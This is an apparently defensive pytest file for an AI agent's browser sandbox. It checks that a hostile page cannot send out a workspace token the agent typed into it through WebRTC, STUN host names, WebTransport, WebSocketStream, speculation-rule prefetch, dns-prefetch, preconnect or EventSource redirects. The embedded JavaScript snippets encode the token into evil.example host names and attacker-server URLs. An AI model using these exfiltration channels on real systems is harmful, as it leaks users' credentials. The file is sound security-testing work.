"""Red team, channels out of the browser that no route sees: a page's WebRTC (its data channels, and the STUN host
it looks up, whose name can carry data), WebTransport, WebSocketStream (Playwright routes only WebSocket), what
Chromium fetches or resolves by itself for a page (speculation rules, preconnect, dns-prefetch), and an EventSource
that the page's own site redirects to another host. After a compliant model typed a workspace token into a page,
the page tries each; none carries it out, every frame and worker is without the constructors, and the browser
itself gathers no WebRTC candidates and prefetches nothing. Real Chromium (its net log shows what it looked up),
pages and sockets on 127.0.0.1."""

from __future__ import annotations

import asyncio
import re
import shutil
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from recording_server import RecordingServer, recording_servers
from test_flow_page_channels import SECRETS, TOKEN, WsServer, _page, _refused, _run, _seen, loopback_websockets

from gofer.computer.browser import BrowserPool, pool
from gofer.events import ConfirmationRequested, RunStatus

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fixtures" / "site"))
from harness import settings_for

pytestmark = pytest.mark.slow
__all__ = ["loopback_websockets"]  # the fixture, used here too

_UNROUTED = "['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel', 'WebTransport', 'WebSocketStream']"


@pytest.fixture
def net_log(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Chromium's net log of the test's browser (every host name it resolves or connects to), in a folder the
    unprivileged user Chromium runs as can write."""
    folder = Path(tempfile.mkdtemp(prefix="gofer-side-netlog-"))
    folder.chmod(0o777)
    log = folder / "net.json"
    monkeypatch.setattr(pool, "CHROMIUM_FLAGS", [*pool.CHROMIUM_FLAGS, f"--log-net-log={log}"])
    yield log
    shutil.rmtree(folder, ignore_errors=True)


def _looked_up(log: Path) -> set[str]:
    """The ``*.evil.example`` names in the net log (written out when the browser closed)."""
    return set(re.findall(r"[a-z0-9-]+\.evil\.example", log.read_text(errors="replace")))


_CHANNELS_HEAD = """const UNROUTED = {unrouted};
const have = g => UNROUTED.filter(n => typeof g[n] !== 'undefined');
const say = m => {{ document.getElementById('echo').textContent += ' | ' + m; }};
say('window has [' + have(window) + ']');
const frame = document.createElement('iframe'); document.body.appendChild(frame);
say('iframe has [' + have(frame.contentWindow) + ']');
const worker = new Worker(URL.createObjectURL(new Blob([
  `postMessage('worker has [' + ${{JSON.stringify(UNROUTED)}}.filter(n => typeof self[n] !== 'undefined') + ']')`],
  {{type: 'text/javascript'}})));
worker.onmessage = e => say(e.data);
// two peers of the page: on an unguarded browser their data channel opens over the host's own UDP
try {{
  const a = new RTCPeerConnection(), b = new RTCPeerConnection();
  a.onicecandidate = e => e.candidate && b.addIceCandidate(e.candidate);
  b.onicecandidate = e => e.candidate && a.addIceCandidate(e.candidate);
  b.ondatachannel = e => {{ e.channel.onmessage = m => say('peer got ' + m.data); }};
  const ch = a.createDataChannel('leak'); ch.onopen = () => ch.send('hello peer');
  a.createOffer().then(o => a.setLocalDescription(o)).then(() => b.setRemoteDescription(a.localDescription))
    .then(() => b.createAnswer()).then(o => b.setLocalDescription(o))
    .then(() => a.setRemoteDescription(b.localDescription));
}} catch (e) {{ say('no peers: ' + e.name); }}"""

_CHANNELS_SEND = """const label = v.replace(/[^a-z0-9]/gi, '').toLowerCase().slice(0, 60);
try {{ const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:' + label + '.evil.example:3478'}}]}});
      pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)); }} catch (e) {{}}
try {{ new WebTransport('https://wt' + label + '.evil.example:4433/'); }} catch (e) {{}}
try {{ new WebSocketStream('{ws}/s').opened.then(({{writable}}) => writable.getWriter().write(v), () => {{}}); }}
catch (e) {{}}"""


@pytest.mark.usefixtures("loopback_websockets")
async def test_no_peer_connection_webtransport_or_websocket_stream_carries_the_typed_token(
    tmp_path: Path, net_log: Path
) -> None:
    attacker = WsServer()
    async with attacker.running():
        site = RecordingServer({"/page": _page(_CHANNELS_SEND.format(ws=attacker.url),
                                               _CHANNELS_HEAD.format(unrouted=_UNROUTED))})
        with recording_servers(site):
            status, events = await _run(tmp_path, site, TOKEN, deny_domains=["never.invalid"])
    assert status == RunStatus.FINISHED
    assert not [m for m in attacker.messages if any(s in m for s in SECRETS)], attacker.messages
    seen = _seen(events)
    for where in ("window", "iframe", "worker"):
        assert f"{where} has []" in seen, seen
    assert "peer got" not in seen and "no peers: ReferenceError" in seen
    assert "127.0.0.1" in net_log.read_text(errors="replace")  # the log worked
    assert not _looked_up(net_log)  # no STUN host and no WebTransport host was looked up


_SPECULATE_HEAD = """const say = m => { document.getElementById('echo').textContent += ' | ' + m; };
const add = (rel, href) => { const l = document.createElement('link'); l.rel = rel; l.href = href;
                              document.head.appendChild(l); };"""
_SPECULATE_SEND = """if (v.length < 20) return;
const label = v.replace(/[^a-z0-9]/gi, '').toLowerCase();
const rules = document.createElement('script'); rules.type = 'speculationrules';
rules.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['/spec?d=' + encodeURIComponent(v)]}],
                                    prerender: [{source: 'list', urls: ['/pre?d=' + encodeURIComponent(v)]}]});
document.head.appendChild(rules);
add('dns-prefetch', '//dns' + label + '.evil.example'); add('preconnect', 'http://pc' + label + '.evil.example');
say('speculated')"""


async def test_chromium_prefetches_preconnects_and_resolves_nothing_for_a_page(
    tmp_path: Path, net_log: Path
) -> None:
    """Speculation rules' prefetch and prerender are fetched by the browser process past the routes; here the
    page's own site (over http a cross-site prefetch is not made) shows whether they were made at all."""
    site = RecordingServer({"/page": _page(_SPECULATE_SEND, _SPECULATE_HEAD)})
    with recording_servers(site):
        status, events = await _run(tmp_path, site, TOKEN)
        await asyncio.sleep(1)
    assert status == RunStatus.FINISHED
    assert "speculated" in _seen(events)
    assert not [r for r in site.requests if r.split()[1].startswith(("/spec", "/pre"))], site.requests
    assert not _looked_up(net_log)


async def test_the_browser_itself_gathers_no_webrtc_candidates(tmp_path: Path) -> None:
    """The second wall, for a frame the guard somehow missed: without the guard (a bare context of the pool's
    Chromium) a peer connection gathers no candidate, so it neither reaches a peer nor asks a STUN server."""
    browsers = BrowserPool(settings_for(tmp_path / "home"))
    try:
        context = await browsers.new_context("bare")
        page = await context.new_page()
        candidates = await page.evaluate("""() => new Promise(done => {
          const found = [];
          const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:stun.evil.example:3478'}]});
          pc.onicecandidate = e => e.candidate ? found.push(e.candidate.candidate) : done(found);
          pc.createDataChannel('x');
          pc.createOffer().then(o => pc.setLocalDescription(o));
          setTimeout(() => done(found), 5000);
        })""")
        await context.close()
    finally:
        await browsers.aclose()
    assert candidates == []


_EVENTS_HEAD = "const topics = new EventSource('/events?topic=garden'); topics.onerror = () => topics.close();"
_EVENTS_SEND = "(v.length > 20 && new EventSource('{site}/redirect?to=' + encodeURIComponent('{attacker}/r?d=' + v)))"


@pytest.mark.usefixtures("loopback_websockets")  # Chromium follows the redirect itself: to the loopback, past LNA
async def test_an_eventsource_redirect_on_the_pages_own_site_cannot_carry_the_token_on(tmp_path: Path) -> None:
    attacker = RecordingServer()
    site = RecordingServer()
    with recording_servers(attacker, site):
        site.pages["/page"] = _page(_EVENTS_SEND.format(site=site.url, attacker=attacker.url), _EVENTS_HEAD)
        status, events = await _run(tmp_path, site, TOKEN)  # no allow or deny list: Chromium follows its redirects
        await asyncio.sleep(1)
    assert status == RunStatus.FINISHED
    assert not attacker.leaked(*SECRETS), attacker.requests
    assert [r for r in site.requests if "/events?topic=garden" in r]  # an ordinary stream with a query is not refused
    [refused] = _refused(events)
    assert refused.check == "dataflow" and refused.verdict == "block"
    assert "eventsource" in " ".join(refused.details["kinds"])
    assert not [e for e in events if isinstance(e, ConfirmationRequested)]
